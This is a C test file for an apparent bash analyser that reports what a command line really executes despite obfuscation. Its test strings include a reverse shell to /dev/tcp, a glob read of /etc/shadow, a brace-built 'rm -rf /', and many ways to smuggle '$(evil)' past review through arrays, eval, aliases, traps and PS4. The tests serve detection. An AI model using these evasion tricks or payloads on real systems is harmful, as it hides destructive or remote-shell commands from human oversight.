/* SPDX-License-Identifier: ISC */
/* Facts: what judges are told of the tricks that hide what a line runs. */
#include "aegsh/syntax.h"

#include <stdlib.h>

#include "aegsh/base/mem.h"
#include "syn_show.h"
#include "tap.h"

static const struct {
	const char *name, *value;
} variables[] = {
	{ "HOME", "/home/u" }, { "v", "rm -rf" }, { "glob", "a*" },
	{ "empty", "" }, { "n", "3" }, { "code", "b[$(evil)]" },
	{ "BASH_FUNC_inherited%%", "() { :; }" },
};

static enum syn_var
get(void *ctx, const char *name, const char **ret_value)
{
	size_t i;

	for (i = 0; i < AEG_NELEM(variables); i++)
		if (strcmp(variables[i].name, name) == 0) {
			*ret_value = variables[i].value;
			return SYN_VAR_SET;
		}
	return strcmp(name, "secret") == 0 ? SYN_VAR_UNKNOWN : SYN_VAR_UNSET;
}

static const struct syn_vars vars = { .get = get };

static const struct {
	const char *unit, *facts;
} cases[] = {
	/* quoting */
	{ "ba\"\"sh -c 'x'", ": bash -c x" },
	{ "$'\\x62ash' \\b\\a\\s\\h b'a's\"h\"", ": bash bash bash" },
	{ "$'\\142\\u61\\x73h' $\"bash\" ba\\\nsh", ": bash bash bash" },
	{ "$'a\\0b'c $'\\cA\\e' $'\\u00e9'",
	    ": ac ^A^[ <unspecified $'\\u00e9'>" },
	{ "echo '' \"\" a''", ": echo '' '' a" },
	{ "cat /dev/tc{p,x}/h/1", ": cat /dev/tcp/h/1 /dev/tcx/h/1" },
	{ "cat /etc/sh?dow [ab]* a[b", ": cat */etc/sh<glob ?>dow "
	    "*<glob [ab]><glob *> a[b" },
	{ "{r,r}m -{r,f} /{,x}", ": rm rm -r -f / /x" },
	{ "echo {1..3} {c..a} {01..3} {1..9..4} {a,b}{c,d} {x} {} {a..",
	    ": echo 1 2 3 c b a 01 02 03 1 5 9 ac ad bc bd {x} {} {a.." },
	{ "echo {{a,b}} {a,{b,c}} {a},b} {'a,b'} \\{a,b} {a,\"b c\"}",
	    ": echo {a} {b} a b c a} b {a,b} {a,b} a b c" },
	{ "echo {1..999}", ": echo *<brace {1..999}>" },
	{ "echo {$,}HOME", ": echo *<brace {$,}HOME>" },
	/* variables */
	{ "a=ba; b=sh; $a$b", ": a=ba / : b=sh / : bash" },
	{ "$v $HOME \"$v\" x$empty $empty $glob", ": rm -rf /home/u rm -rf x "
	    "*a<glob *>" },
	{ "a=1; a+=2; echo $a ${a:-x} ${b:-x$v} ${b-} ${#a} ${v:+y}",
	    ": a=1 / : a+=2 / : echo 12 12 xrm -rf 2 y" },
	{ "IFS=,; a=x,y,,z; p $a", ": IFS=, / : a=x,y,,z / : p x y '' z" },
	{ "read IFS; $v", ": read IFS / : *<variable $v>" },
	{ "a=rm; if x; then a=ls; fi; $a",
	    ": a=rm / compound: / condition: x / : a=ls / : *<variable $a>" },
	{ "if x; then a=ls; $a; else $a; fi", "compound: / condition: x / "
	    ": a=ls / : ls / : *<variable $a>" },
	{ "a=ls; for i in 1; do b $a; a=rm; c $a; done",
	    ": a=ls / compound: / loop: b *<variable $a> / loop: a=rm / "
	    "loop: c rm" },
	{ "a=ls; while x; do $a; b $a; eval $secret; done",
	    ": a=ls / compound: / "
	    "loop,condition: x / loop: *<variable $a> / "
	    "loop: b *<variable $a> / loop: eval *<variable $secret>" },
	{ "a=ls; while x; do $a; eval 'b $a'; done", ": a=ls / compound: / "
	    "loop,condition: x / loop: ls / loop: eval b $a / "
	    "loop,eval: b ls" },
	{ "a=ls; while x; do b $a; eval 'a=rm'; done", ": a=ls / compound: / "
	    "loop,condition: x / loop: b *<variable $a> / loop: eval a=rm / "
	    "loop,eval: a=rm" },
	{ "x=ba; eval 'y=sh; $x$y c' '; d'; $y", ": x=ba / "
	    ": eval y=sh; $x$y c ; d / eval: y=sh / eval: bash c / "
	    "eval: d / : sh" },
	{ "x=a eval 'eval \"\\$x\" b'; $x", ": x=a eval eval \"\\$x\" b / "
	    "eval: eval $x b / eval: a b / : *<variable $x>" },
	{ "eval 'set -- a b'; $2 $#", ": eval set -- a b / "
	    "eval: set -- a b / : b 2" },
	{ "a=1 && eval a=ls; $a", "condition: a=1 / : eval a=ls / "
	    "eval: a=ls / : *<variable $a>" },
	{ "eval 'a=ls' || b; $a", "condition: eval a=ls / "
	    "condition,eval: a=ls / : b / : ls" },
	{ "eval 'f() { a; }'; f", ": eval f() { a; } / "
	    "function,compound,eval=f: / function,eval=f: a / : f" },
	{ "a=ls; (a=rm; $a); $a", ": a=ls / compound: / subshell: a=rm / "
	    "subshell: rm / : ls" },
	{ "a=ls; x | read a; $a", ": a=ls / 0/2: x / 1/2: read a / "
	    ": *<variable $a>" },
	{ "a=ls && b=rm && $a && $b; $b", "condition: a=ls / condition: b=rm "
	    "/ condition: ls / : rm / : *<variable $b>" },
	{ "a=ls; x || a=rm; $a", ": a=ls / condition: x / : a=rm / "
	    ": *<variable $a>" },
	{ "a=ls; a=rm & $a", ": a=ls / background: a=rm / : ls" },
	{ "f() { a=rm; }; a=ls; $a; f; $a", "function,compound=f: / "
	    "function=f: a=rm / : a=ls / : ls / : f / : *<variable $a>" },
	{ "a=ls; f() { $a; }; a=rm; f", ": a=ls / function,compound=f: / "
	    "function=f: *<variable $a> / : a=rm / : f" },
	{ "a=ls; declare a=rm; $a; a=x; $a", ": a=ls / : declare a=rm / : rm / "
	    ": a=x / : x" },
	{ "a=ls; declare -l a=rm; a=X; $a", ": a=ls / : declare -l a=rm / "
	    ": a=X / : x" },
	{ "declare -u a=b; $a; f() { $a; }; a=c; $a",
	    ": declare -u a=b / : B / function,compound=f: / "
	    "function=f: *<variable $a> / : a=c / : C" },
	{ "readonly a=ls; a=x; $a", ": readonly a=ls / : a=x / "
	    ": *<variable $a>" },
	{ "a=ls; export a=rm; $a", ": a=ls / : export a=rm / : rm" },
	{ "a=ls; eval \"$secret\"; $a", ": a=ls / : eval <variable $secret> "
	    "/ : *<variable $a>" },
	{ "a=ls; inherited; $a", ": a=ls / : inherited / : *<variable $a>" },
	{ "a=ls; unset a; $a", ": a=ls / : unset a / :" },
	{ "a=ls; printf -v a rm; $a", ": a=ls / : printf -v a rm / : rm" },
	{ "printf -v a '%s-%b' x '\\x79'; $a z", ": printf -v a %s-%b x "
	    "\\x79 / : x-y z" },
	{ "printf -v a %d 1; $a", ": printf -v a %d 1 / : *<variable $a>" },
	{ "read a b <<< 'x y z'; $a $b", ": read a b 0<<<x y z / : x y z" },
	{ "IFS= read -r a <<< ' x '; \"$a\"", ": IFS='' read -r a 0<<< x  / "
	    ":  x " },
	{ "read a <<< \"$secret\"; $a", ": read a 0<<<<variable $secret> / "
	    ": *<variable $a>" },
	{ "set -- x 'y z'; a \"$@\" $2 $#; shift; a \"$1\"",
	    ": set -- x y z / : a x y z y z 2 / : shift / : a y z" },
	{ "set -- x; f() { a $1; }; f",
	    ": set -- x / function,compound=f: / function=f: a / : f" },
	{ "set -- x; f() { a $1; }; $1", ": set -- x / "
	    "function,compound=f: / function=f: a *<variable $1> / : x" },
	{ "f() { $1 x \"$@\" $#; }; f b 'c d'", "function,compound=f: / "
	    "function=f: b x b c d 2 / : f b c d" },
	{ "f() { $1; }; f a; f b", "function,compound=f: / function=f: a / "
	    "function,compound=f: / function=f: b / : f a / : f b" },
	{ "f() { $1; }; f a; f $secret", "function,compound=f: / "
	    "function=f: *<variable $1> / : f a / : f *<variable $secret>" },
	{ "f() { $1; }; f a; $secret", "function,compound=f: / "
	    "function=f: *<variable $1> / : f a / : *<variable $secret>" },
	{ "f() { $1; }; trap 'f b' EXIT; f a", "function,compound=f: / "
	    "function=f: *<variable $1> / : trap f b EXIT / : f a" },
	{ "f() { $1; }; export -f f; f a", "function,compound=f: / "
	    "function=f: *<variable $1> / : export -f f / : f a" },
	{ "f() { g $1; }; g() { $1; }; f a", "function,compound=f: / "
	    "function=f: g a / function,compound=g: / function=g: a / : f a" },
	{ "f() { f x$1; $1; }; f a", "function,compound=f: / function=f: f "
	    "*x<variable $1> / function=f: *<variable $1> / : f a" },
	{ "f() { shift; $1; }; f a b", "function,compound=f: / "
	    "function=f: shift / function=f: b / : f a b" },
	{ "f() { for i; do $i; done; }; f a b", "function,compound=f: / "
	    "function,compound=f: / function,loop=f: a / function,loop=f: b / "
	    ": f a b" },
	{ "f() { set -- b; }; set -- a; f; $1", "function,compound=f: / "
	    "function=f: set -- b / : set -- a / : f / : *<variable $1>" },
	{ "x='f() { a=b; }'; a=c; eval \"$x\"; f; $a", ": x=f() { a=b; } / "
	    ": a=c / : eval f() { a=b; } / function,compound,eval=f: / "
	    "function,eval=f: a=b / : f / : *<variable $a>" },
	{ "g() { $v; }; x='v=b'; eval \"$x\"; g", "function,compound=g: / "
	    "function=g: *<variable $v> / : x=v=b / : eval v=b / eval: v=b / "
	    ": g" },
	{ "command_not_found_handle() { $1; }; command_not_found_handle a",
	    "function,compound=command_not_found_handle: / "
	    "function=command_not_found_handle: *<variable $1> / "
	    ": command_not_found_handle a" },
	{ "a=1; ((a=2)); echo $a",
	    ": a=1 / compound: / : echo *<variable $a>" },
	{ "a=x b=$a c $a; d $a", ": a=x b=<variable $a> c / : d" },
	{ "a=x b=$a; c $a$b", ": a=x b=x / : c xx" },
	{ ": ${x:=a} $x; $x", ": : *<variable ${x:=a}> *<variable $x> / : a" },
	{ "a=(b c); $a", ": a=<unspecified (b c)> / : b" },
	{ "a=(b 'c d'); \"${a[@]}\" ${a[1]} ${a[-1]} ${#a[@]} \"${a[*]}\"",
	    ": a=<unspecified (b 'c d')> / : b c d c d c d 2 b c d" },
	{ "a=(b); a+=(c); a[2]=d; e \"${a[@]:1}\"", ": a=<unspecified (b)> / "
	    ": a+=<unspecified (c)> / : a[2]=d / : e c d" },
	{ "a=(b c); a=x; ${a[@]}", ": a=<unspecified (b c)> / : a=x / : x c" },
	{ "a=(b $secret); ${a[0]}", ": a=<unspecified (b $secret)> / "
	    ": *<variable ${a[0]}>" },
	{ "a=([1]=b); ${a[1]}", ": a=<unspecified ([1]=b)> / "
	    ": *<variable ${a[1]}>" },
	{ "a=(b); if c; then a+=(d); fi; ${a[0]}", ": a=<unspecified (b)> / "
	    "compound: / condition: c / : a+=<unspecified (d)> / "
	    ": *<variable ${a[0]}>" },
	{ "a[1]=x; $a", ": a[1]=x / : *<variable $a>" },
	{ "echo $secret \"$secret\" $1 \"$@\" $? ${v:0:2} ${v/r/x} ${v[0]}",
	    ": echo *<variable $secret> <variable $secret> *<variable $1> "
	    "*<variable $@> <variable $?> rm xm -rf *<variable ${v[0]}>" },
	{ "${!v} ${v@P} ${!v*}", ": *<indirect ${!v}> rm -rf "
	    "*<indirect ${!v*}>" },
	{ "r=v; \"${!r}\"", ": r=v / : rm -rf" },
	{ "x ${!secret}", ": x *<indirect ${!secret}> / "
	    ": *<arithmetic secret>" },
	{ "x=/a/b.c; e ${x##*/} ${x#*/} ${x%.*} ${x%%/*}y ${x#/a} ${x%\"*\"}",
	    ": x=/a/b.c / : e b.c a/b.c /a/b y /b.c /a/b.c" },
	{ "x=aba; e ${x/a/c} ${x//a} ${x/#a/c} ${x/%a/c} ${x/a*/c} ${x//a/&&}",
	    ": x=aba / : e cba b cba abc c aabaa" },
	{ "x=aB; e ${x^} ${x^^} ${x,,} ${x,,B} ${x~~} ${x@U} ${x@Q} ${x@E}",
	    ": x=aB / : e AB AB ab ab "
	    "*<variable ${x~~}> AB 'aB' aB" },
	{ "x=abc; e ${x:1} ${x: -1} ${x:0:-1} ${x:n-2:1} ${x:9}",
	    ": x=abc / : e bc c ab b" },
	{ "x=abc; e ${x#[a]} ${x#$secret} ${x:secret} ${x/b/\\\\}",
	    ": x=abc / : e *<variable ${x#[a]}> *<variable ${x#$secret}> "
	    "*<variable ${x:secret}> *<variable ${x/b/\\\\}> / "
	    ": *<arithmetic secret>" },
	{ "x='$(evil)'; echo ${x@P}", ": x=$(evil) / : echo "
	    "*<indirect ${x@P}> / subst: evil" },
	{ "RANDOM=1; echo $RANDOM", ": RANDOM=1 / : echo *<variable $RANDOM>" },
	/* tilde */
	{ "ls ~ ~/x ~u ~+ \"~\" a~ x=~/y:~", ": ls /home/u /home/u/x "
	    "<tilde ~u> <tilde ~+> ~ a~ x=/home/u/y:/home/u" },
	{ "PATH=~/bin:~u/bin:/b=~ x",
	    ": PATH=/home/u/bin:<tilde ~u>/bin:/b=~ x" },
	{ "HOME=/; ls ~", ": HOME=/ / : ls /" },
	/* substitutions wherever they stand */
	{ "a $(b `c` \"$(d)\")", ": a *<substitution $(b `c` \"$(d)\")> / "
	    "subst: b *<substitution `c`> <substitution $(d)> / subst: c / "
	    "subst: d" },
	{ "a=$(b) c=(`d` [$(e)]=f)", ": a=<substitution $(b)> "
	    "c=<unspecified (`d` [$(e)]=f)> / subst: b / subst: d / "
	    "subst,arith: e / arith: *<arithmetic $(e)>" },
	{ "diff <(a) >(b)", ": diff <process <(a)> <process >(b)> / "
	    "process: a / process: b" },
	{ "cat <<E\n$(a) $v \\$x\nE\n", ": cat 0<<<substitution $(a)> rm -rf "
	    "$x^J / subst,heredoc: a" },
	{ "sh <<'E'\n$(a)\nE\n", ": sh 0<<$(a)^J" },
	{ "sh <<-E\n\trm x\n\tE\n", ": sh 0<<rm x^J" },
	{ "case $(a) in $(b)) c ;; esac", "compound: / subst: a / subst: b / "
	    ": c" },
	{ "for i in $(a); do b $i; done >$(c)", "compound: "
	    "1>*<substitution $(c)> / subst: c / subst: a / "
	    "loop: b *<variable $i>" },
	{ "echo \"${x:-$(a)}\" ${y:='$(b)'} \"${x:-'$(c)'}\"", ": echo "
	    "<substitution $(a)> *<variable ${y:='$(b)'}> "
	    "'<substitution $(c)>' / subst: a / subst: c" },
	{ "echo \"${x:-$'$(a)'}\"", ": echo <substitution $(a)> / subst: a" },
	{ "echo $(( (a) ) $[1+1]", NULL },
	{ "echo $((a) )", ": echo *<substitution $((a) )> / subst,compound: "
	    "/ subst,subshell: a" },
	{ "echo `a; (`", ": echo *<substitution `a; (`> / "
	    "subst: *<unspecified a; (>" },
	{ "echo `a\n(`", ": echo *<substitution `a^J(`> / subst: a / "
	    "subst: *<unspecified (>" },
	/* context */
	{ "! a | b &",
	    "background,negated,0/2: a / background,negated,1/2: b" },
	{ "coproc X { a; }; coproc b c", "compound: / "
	    "background,coproc,compound: / background,coproc: a / compound: / "
	    "background,coproc: b c" },
	/* loops: told once for each known word */
	{ "for x in a 'b c'; do $x; done", "compound: / loop: a / loop: b c" },
	{ "for x in a b; do for y in c d; do $x $y; done; done", "compound: / "
	    "loop,compound: / loop: a c / loop: a d / loop,compound: / "
	    "loop: b c / loop: b d" },
	{ "for x in a $secret; do $x; done", "compound: / "
	    "loop: *<variable $x>" },
	{ "for x in a b; do $x $y; y=c; done", "compound: / loop: a "
	    "*<variable $y> / loop: y=c / loop: b *<variable $y> / "
	    "loop: y=c" },
	{ "for x in a b; do c; done; $x", "compound: / loop: c / loop: c / "
	    ": b" },
	{ "for x in a b; do x=c; done; $x", "compound: / loop: x=c / "
	    "loop: x=c / : *<variable $x>" },
	{ "for x in a b; do c && break; done; $x", "compound: / "
	    "loop,condition: c / loop: break / loop,condition: c / "
	    "loop: break / : *<variable $x>" },
	{ "for x in a b; do eval break; done; $x", "compound: / "
	    "loop: eval break / loop,eval: break / loop: eval break / "
	    "loop,eval: break / : *<variable $x>" },
	{ "for x in a b; do c; done & $x", "background,compound: / "
	    "loop,background: c / loop,background: c / :" },
	{ "if a; then for x in b; do :; done; $x; fi; $x", "compound: / "
	    "condition: a / compound: / loop: : / : b / : *<variable $x>" },
	{ "f() { for x in b; do :; done; }; $x; f; $x",
	    "function,compound=f: / function,compound=f: / "
	    "function,loop=f: : / : / : f / : *<variable $x>" },
	{ "for x in a b; do $x; eval \"$secret\"; done", "compound: / "
	    "loop: *<variable $x> / loop: eval <variable $secret> / "
	    "loop: *<variable $x> / loop: eval <variable $secret>" },
	{ "select x in a; do rm $x; done", "compound: / loop: rm "
	    "*<variable $x>" },
	{ "while a; do b; done | { c; }", "compound,0/2: / loop,condition: a "
	    "/ loop: b / compound,1/2: / : c" },
	{ "f() (a)", "function,compound=f: / subshell,function=f: a" },
	/* redirections */
	{ "a <b >c 2>>d >|e <>f &>g &>>h 3<&4 2>&1 5>&- <<<i {k}>l >&m >&$n",
	    ": a 0<b 1>c 2>>d 1>|e 0<>f 1&>g 1&>>h 3<&4 2>&1 5close "
	    "0<<<i {k}>l 1&>m 1>&3" },
	{ "bash -i >& /dev/tcp/h/1 0>&1", ": bash -i 1&>/dev/tcp/h/1 0>&1" },
	{ "a >b{c,d} >$v >$secret", ": a 1><unspecified b{c,d}> "
	    "1><unspecified $v> 1>*<variable $secret>" },
	{ "LD_PRELOAD=x BASH_ENV=y cmd", ": LD_PRELOAD=x BASH_ENV=y cmd" },
	/* later lines */
	{ "alias ls=rm\nls", ": alias ls=rm / : <read-changed ls>" },
	{ "alias ls=rm; ls", ": alias ls=rm / : ls" },
	{ "(shopt -s extglob)\nls", "compound: / subshell: shopt -s extglob / "
	    ": ls" },
	{ "$secret\nls", ": *<variable $secret> / : <read-changed ls>" },
	{ "POSIXLY_CORRECT=\nls", ": POSIXLY_CORRECT='' / "
	    ": <read-changed ls>" },
	{ "set -euo pipefail\nls {a,b}", ": set -euo pipefail / : ls a b" },
	{ "set +B; ls {a,b}", ": set +B / : ls *<brace {a,b}>" },
	{ "f() { alias a=b; }\nls\nf\nls", "function,compound=f: / "
	    "function=f: alias a=b / : ls / : f / : <read-changed ls>" },
};

static struct syn_facts *
facts_of(const char *unit, struct syn_tree **ret_tree)
{
	struct syn_diag diag;

	if (syn_parse(unit, strlen(unit), NULL, ret_tree, &diag) != SYN_TREE)
		return NULL;
	return syn_facts_new(*ret_tree, &vars);
}

static void
check_cases(void)
{
	size_t i;

	for (i = 0; i < AEG_NELEM(cases); i++) {
		struct syn_tree *tree = NULL;
		struct syn_facts *f = facts_of(cases[i].unit, &tree);
		struct buf b = BUF_INIT;

		if (f != NULL)
			syn_show(&b, f);
		IS_STRN(b.data, cases[i].facts, cases[i].unit);
		buf_done(&b);
		syn_facts_free(f);
		syn_free(tree);
	}
}

/* Bash runs "evil" in each of these: it is told, or a command is unknown. */
static const char *const hidden[] = {
	"a=(); a['$(evil)']=1", "a=1; echo ${a['$(evil)']}",
	"x='a[$(evil)]'; echo $(($x))", "x='a[$(evil)]'; ((x))",
	"x='a[$(evil)]'; echo ${HOME:$x}", "x='a[$(evil)]'; echo ${HOME:x}",
	"x='a[$(evil)]'; echo ${!x}", "x='a[`evil`]'; echo ${a[x]}",
	"x='a[$(evil)]'; [[ $x -eq 1 ]]", "x='b[$(evil)]'; a[x]=1",
	"declare -i n; n='a[$(evil)]'", "PS4='$(evil)'; set -x; :",
	"compgen -W '$(evil)'", "[[ 'a[$(evil)]' -eq 0 ]]",
	"test -v 'a[$(evil)]'", "[[ -v 'a[$(evil)]' ]]",
	"x='$(evil)'; echo ${x@P}", "let 'a[$(evil)]=1'",
	"k='$(evil)'; unset \"m[$k]\"", "unset 'x[$(evil)]'",
	"read -r 'a[$(evil)]' <<< 1", "printf -v 'a[$(evil)]' x",
	"for ((i='a[$(evil)]';i<0;i++)); do :; done",
	"exec {a[$(evil)]}>/dev/null", "exec {a['$(evil)']}>/dev/null",
	"a=(['$(evil)']=1)", "f() { local 'b[$(evil)]=1'; }; f",
	"(( 1 ? 'a[$(evil)]' : 0 ))", "echo \"${x:-$'\\x24(evil)'}\"",
	"case x in $(evil)) ;; esac", "coproc evil", "a=ev; b=il; $a$b",
	"a=ls; a=evil export a; $a", "a=ls; declare -n r=a; r=evil; $a",
	"a=ls; readonly a=evil; a=ls; $a", "a=evil; b=(\"$a\"); ${b[0]}",
	"v=a; a=evil; ${!v}", "printf -v a evil; $a", "read a <<< evil; $a",
	"a=ls; for a in evil; do :; done; $a", "e{v,v}il", "$'\\145vil'",
	"shopt -s expand_aliases; alias x=evil; echo $(x)",
	"f() { `x`; }; shopt -s expand_aliases; alias x=evil; f",
	"set -k; x a=evil", "a=ls; trap 'a=evil' DEBUG; $a",
	"a=ls; inherited; $a", "${empty:-evil}", "${n:+evil}", "`e''vil`",
	"if ! evil; then :; fi", "a | b | (c; evil)", "[ -f <(evil) ]",
	"f() if evil; then :; fi", "time evil", "! evil", "echo $(time evil)",
};

/* Is $a still known to be ls behind these?  Then there is no "-" in front. */
static const char *const effects[] = {
	"cd /x", "command cd /x", "printf '%s' \"$secret\"", "printf -- %s -v",
	"printf -v b x", "-printf -v \"$secret\" x", "-printf \"$secret\" x",
	"-printf -va x", "read -r -d '' -p 'x y' b", "-read \"$secret\"",
	"-read b a", "getopts ab: b \"$@\"", "-getopts ab: \"$secret\"",
	"-getopts ab: a", "-getopts $secret b", "mapfile -t b <x",
	"-mapfile -C 'a=rm; :' -c 1 b", "-readarray a", "wait", "wait $!",
	"-wait \"$secret\"", "-wait -np a x", "-wait -pa x",
	"-wait -p a x", "-wait $secret x",
	"export b=c d", "export -p", "export b=$secret", "-export a=rm",
	"-export \"$secret\"", "-export a=$secret", "-a=rm export a",
	"declare b=c", "declare -p b", "-declare a", "-declare -n b=a; b=rm",
	"-typeset $secret", "local b=$secret", "-readonly a=rm",
	"let b=1", "-let \"$secret\"", "-let a=1", "-let 'b = a++'",
	"set -e", "set -euo pipefail", "set -- -k", "set +x", "-set -k",
	"-set -o posix", "-set -o keyword", "-set $secret", "set -o",
	"shopt -s nullglob", "-shopt -so posix", "-shopt $secret",
	"trap 'x' EXIT", "trap - INT", "trap '' INT", "-trap 'a=rm' DEBUG",
	"-trap 'a=rm' INT EXIT", "trap", "test -v b", "[ -n \"$secret\" ]",
	"command -v eval", "command -V \"$secret\"", "command eval x",
	"-builtin eval $secret", "-command -p . x", "eval x", "-eval \"a=x\"",
	"-eval \"$secret\"", "-eval 'eval a=x'", "-eval 'x('", "eval $a",
	"-source x", "-. x",
	"-enable -n test", "alias b=c", "unalias -a", "-compgen -W x",
	"unset b", "-unset a", "-unset -v a", "pushd /x", "popd", "ls", "$v",
	"-$secret", "\"$v\"", "-inherited", "POSIX=1", "-POSIXLY_CORRECT=1",
	"-BASH_ALIASES[x]=y", "exec {b}>c", "-exec {a}>c", ": ${a:=x}",
	"-unset a", "-read a", "-a=(x)", "-mapfile a",
	": ${b:=x}", ": $((b = 1))", "-: $((a = 1))", "-: $((a++))",
	": $((a == 1))", ": $((a <= 1, a != 2, a >= 1))", "-: $((a <<= 1))",
	"coproc b { a=rm; }", "-coproc a { :; }", "-a+=x", "-a[0]=x",
	"-unset \"$secret\"", "-for a in b; do :; done", "(a=rm)",
	"-{ a=rm; }", "x=$(a=rm)", "f() { a=rm; }", "-f() { a=rm; }; f",
	"f() { :; }; f", "-a=rm; $empty", "a=rm :", "-a=rm $secret",
	"-a=rm $empty",
};

static void
check_effects(void)
{
	size_t i;

	for (i = 0; i < AEG_NELEM(effects); i++) {
		bool gone = effects[i][0] == '-';
		AEG_AUTOFREE char *unit = xasprintf("a=ls; %s; echo $a",
		    effects[i] + gone);
		struct syn_tree *tree = NULL;
		struct syn_facts *f = facts_of(unit, &tree);
		const struct syn_command *last;

		if (!OKF(f != NULL, "parses: %s", unit))
			continue;
		last = &f->commands[f->n_commands - 1];
		OKF((last->n_words == 2 && last->words[1].known &&
		    strcmp(last->words[1].value, "ls") == 0) == !gone,
		    "%s: %s", gone ? "forgotten" : "kept", unit);
		syn_facts_free(f);
		syn_free(tree);
	}
}

static bool
tells(const struct syn_facts *f)
{
	size_t i, k;

	for (i = 0; i < f->n_commands; i++)
		for (k = 0; k < f->commands[i].n_words; k++) {
			const struct syn_word *word = &f->commands[i].words[k];

			if (strcmp(word->value, "evil") == 0)
				return true;
			if (k == 0 && !word->known)
				return true;
			/* "set -k" makes later words unknown. */
			if (k > 0 && strcmp(word->value, "a=evil") == 0)
				return true;
		}
	return false;
}

static void
check_hidden(void)
{
	size_t i;

	for (i = 0; i < AEG_NELEM(hidden); i++) {
		struct syn_tree *tree = NULL;
		struct syn_facts *f = facts_of(hidden[i], &tree);

		OKF(f != NULL && tells(f), "told: %s", hidden[i]);
		syn_facts_free(f);
		syn_free(tree);
	}
}

static void
check_caps(void)
{
	size_t n = 200000, i;
	AEG_AUTOFREE char *big = xmalloc(2 * n + 100);
	struct syn_tree *tree = NULL;
	struct syn_facts *f;
	const struct syn_command *last;

	/* A value of 200 KB, used 40000 times. */
	memcpy(big, "a=", 2);
	memset(big + 2, 'x', n);
	memcpy(big + 2 + n, "; echo ", 7);
	for (i = 0; i < 40000; i++)
		memcpy(big + 9 + n + 3 * i, "$a ", 3);
	big[9 + n + 120000] = '\0';
	f = facts_of(big, &tree);
	last = &f->commands[f->n_commands - 1];
	OKF(last->words[1].known, "a large value is known");
	OKF(!last->words[last->n_words - 1].known &&
	    last->words[last->n_words - 1].parts[0].why == SYN_WHY_CAP,
	    "but not any number of times");
	syn_facts_free(f);
	syn_free(tree);
}

static void
check_rest(const char *unit, const char *rest, bool simple)
{
	struct syn_tree *tree = NULL;
	struct syn_facts *f = facts_of(unit, &tree);

	IS_STRN(f->rest_unknown, rest, unit);
	IS_INTN(f->only_simple, simple, "one simple command");
	syn_facts_free(f);
	syn_free(tree);
}

static void
check_lists(void)
{
	struct syn_tree *tree = NULL;
	struct syn_facts *f = facts_of("f() { echo $x ${y:-$x} $((z)); }\n"
	    "g() { [[ $x && ${!w} ]]; }; a $(b <(c)) | d", &tree);

	IS_INT(f->n_functions, 2);
	IS_STR(f->functions[0].name, "f");
	IS_STR(f->functions[1].name, "g");
	IS_INT(f->functions[1].offset, 33);
	IS_INTN(f->n_reads, 4, "each variable once");
	IS_STR(f->reads[0], "x");
	IS_STR(f->reads[3], "w");
	IS_INT(f->n_commands, 8);
	IS_INT(f->commands[5].parent, 5);
	IS_INT(f->commands[5].depth, 1);
	IS_INT(f->commands[6].parent, 6);
	IS_INT(f->commands[6].depth, 2);
	IS_INT(f->commands[4].pipeline, f->commands[7].pipeline);
	IS_INT(f->commands[4].offset, 61);
	IS_INT(f->commands[6].offset, 69);
	IS_INT(f->commands[4].words[1].offset, 63);
	IS_INT(f->commands[4].words[1].source_len, 9);
	syn_facts_free(f);
	syn_free(tree);
}

static void
check_unknown_variables(void)
{
	struct syn_tree *tree = NULL;
	struct syn_diag diag;
	struct syn_facts *f;
	struct buf b = BUF_INIT;

	syn_parse("a=ba; $a $b ~", 13, NULL, &tree, &diag);
	f = syn_facts_new(tree, NULL);
	syn_show(&b, f);
	IS_STRN(b.data, ": a=ba / : ba *<variable $b> <tilde ~>",
	    "without variables only the line's own are known");
	buf_done(&b);
	syn_facts_free(f);
	syn_free(tree);
}

int
main(void)
{
	check_cases();
	check_rest("ls -l \"$v\" *", NULL, true);
	check_rest("ls; ls", NULL, false);
	check_rest("ls | ls", NULL, false);
	check_rest("ls >x", NULL, false);
	check_rest("a=b", NULL, false);
	check_rest("a=b ls", NULL, false);
	check_rest("ls $(x)", NULL, false);
	check_rest("ls `x`", NULL, false);
	check_rest("ls <(x)", NULL, false);
	check_rest("ls $((x[$(y)]))", NULL, false);
	check_rest("ls &", NULL, false);
	check_rest("! ls", NULL, false);
	check_rest("time ls", NULL, false);
	check_rest("(ls)", NULL, false);
	check_rest("", NULL, false);
	check_rest("eval x", NULL, true);
	check_rest("eval x\ny", NULL, false);
	check_rest("eval \"$secret\"\ny", "eval", false);
	check_rest("eval 'alias b=c'\ny", "alias", false);
	check_rest("alias b=c; eval b", "alias", false);
	check_rest("alias b=c; eval b\ny", "alias", false);
	check_rest("eval '. x'\ny", ".", false);
	check_rest(". x\ny", ".", false);
	check_rest("if a; then\nalias b=c\nfi\ny", "alias", false);
	check_rest("if a; then\nalias b=c\ny; fi", NULL, false);
	check_rest("echo $(alias a=b\na)", "alias", false);
	check_rest("alias a=b; echo $(a)", "alias", false);
	check_rest("f() { `a`; }; alias a=b; f", "`a`", false);
	check_rest("shopt -s extglob; echo a", NULL, false);
	check_rest("shopt -q extglob\necho a", NULL, false);
	check_rest("shopt -p\necho a", NULL, false);
	check_rest("shopt -q -s extglob\necho a", "shopt", false);
	check_rest("shopt -q $(x)\necho a", "shopt", false);
	check_rest("shopt -sq extglob\necho a", "shopt", false);
	check_rest("shopt $secret extglob\necho a", "shopt", false);
	check_rest("echo $(alias a=b)\na", NULL, false);
	check_effects();
	check_hidden();
	check_caps();
	check_lists();
	check_unknown_variables();
	return tap_done();
}
